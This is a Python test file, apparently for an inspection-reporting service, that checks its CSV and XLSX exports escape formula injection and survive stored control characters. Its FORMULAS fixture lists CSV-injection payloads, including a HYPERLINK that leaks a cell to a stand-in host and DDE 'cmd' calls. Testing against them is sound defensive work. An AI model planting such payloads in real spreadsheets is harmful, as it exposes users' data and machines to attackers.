"""Every CSV and XLSX export writes user text that no spreadsheet evaluates (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import uuid

import openpyxl
import pytest
from sqlalchemy import select

from shared import clock
from shared.models import SamplePoint
from tests.factories import World, auth, make_sample_point, make_unit, make_world
from tests.reporting.helpers import local

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点这里")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


@pytest.fixture
async def w(db) -> World:
    return await make_world(db)


def csv_table(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def xlsx_cells(content: bytes) -> list[list[openpyxl.cell.Cell]]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    return [list(row) for row in sheet.iter_rows()]


async def test_sample_point_exports_keep_formulas_as_text_and_round_trip(registry, w: World, db):
    for number, formula in enumerate(FORMULAS):
        await make_sample_point(
            db,
            region=w.region,
            point_type=w.point_type,
            division=w.grid,
            unit=w.unit,
            code=f"F-{number}",
            name=formula,
        )
    await db.commit()

    exported = await registry.get("/v1/sample-points/export?format=csv", headers=auth(w.admin))
    assert exported.status_code == 200
    table = csv_table(exported.content)
    name = table[1].index("name")  # row 1 is the title (SPEC §8)
    names = {row[0]: row[name] for row in table[2:]}
    for number, formula in enumerate(FORMULAS):
        assert names[f"F-{number}"] == "'" + formula  # a spreadsheet reads it as text

    xlsx = await registry.get("/v1/sample-points/export?format=xlsx", headers=auth(w.admin))
    assert xlsx.status_code == 200
    rows = xlsx_cells(xlsx.content)
    cells = {row[0].value: row[name] for row in rows[2:]}
    for number, formula in enumerate(FORMULAS):
        cell = cells[f"F-{number}"]
        assert (cell.data_type, cell.value) == ("s", formula)

    # The escaped CSV imports back without changing a name.
    again = await registry.post(
        "/v1/sample-points/import",
        files={"file": ("points.csv", exported.content, "text/csv")},
        headers=auth(w.admin),
    )
    assert again.status_code == 200, again.text
    assert again.json()["updated"] == 0
    stored = await db.scalars(
        select(SamplePoint.name).where(
            SamplePoint.region_id == w.region.id, SamplePoint.code.like("F-%")
        )
    )
    assert sorted(stored) == sorted(FORMULAS)


async def test_an_inspectors_formula_reaches_the_overdue_report_as_text(
    inspections, reporting, w: World, db
):
    formula = FORMULAS[0]
    # Reported on 20 October (the clock travels there): due in October, overdue since.
    with clock.travel_to(local(10, 20)):
        case = await inspections.post(
            "/v1/cases",
            json={
                "id": str(uuid.uuid4()),
                "source": "woodpecker",
                "description": formula,
                "severity": "normal",
                "sample_point_id": str(w.point.id),
            },
            headers=auth(w.inspector),
        )
    assert case.status_code == 201, case.text
    url = "/v1/reports/overdue?month=2026-10&format="
    csv_answer = await reporting.get(url + "csv", headers=auth(w.leader))
    assert csv_answer.status_code == 200, csv_answer.text
    table = csv_table(csv_answer.content)
    column = table[1].index("Description")
    assert [row[column] for row in table[2:]] == ["'" + formula]

    xlsx_answer = await reporting.get(url + "xlsx", headers=auth(w.leader))
    rows = xlsx_cells(xlsx_answer.content)
    [cell] = [row[column] for row in rows[2:]]
    assert (cell.data_type, cell.value) == ("s", formula)


async def test_every_xlsx_export_survives_a_control_character_already_stored(
    registry, reporting, w: World, db
):
    """Input refuses control characters; text stored before that rule must not break exports."""
    legacy = await make_unit(db, region=w.region, name="旧数据\x0b单位")
    await make_sample_point(
        db,
        region=w.region,
        point_type=w.point_type,
        division=w.grid,
        unit=legacy,
        name="旧\x01样本点",
    )
    await db.commit()
    answer = await registry.get("/v1/sample-points/export?format=xlsx", headers=auth(w.admin))
    assert answer.status_code == 200, answer.text
    names = [row[1].value for row in xlsx_cells(answer.content)]
    assert "旧\ufffd样本点" in names
    for report in ("units", "coverage", "inspectors", "chiefs", "overview", "overdue"):
        answer = await reporting.get(
            f"/v1/reports/{report}?month=2026-10&format=xlsx", headers=auth(w.admin)
        )
        assert answer.status_code == 200, (report, answer.text)
    answer = await reporting.get(
        "/v1/reports/red-black-list?month=2026-10&format=xlsx", headers=auth(w.admin)
    )
    assert answer.status_code == 200, answer.text
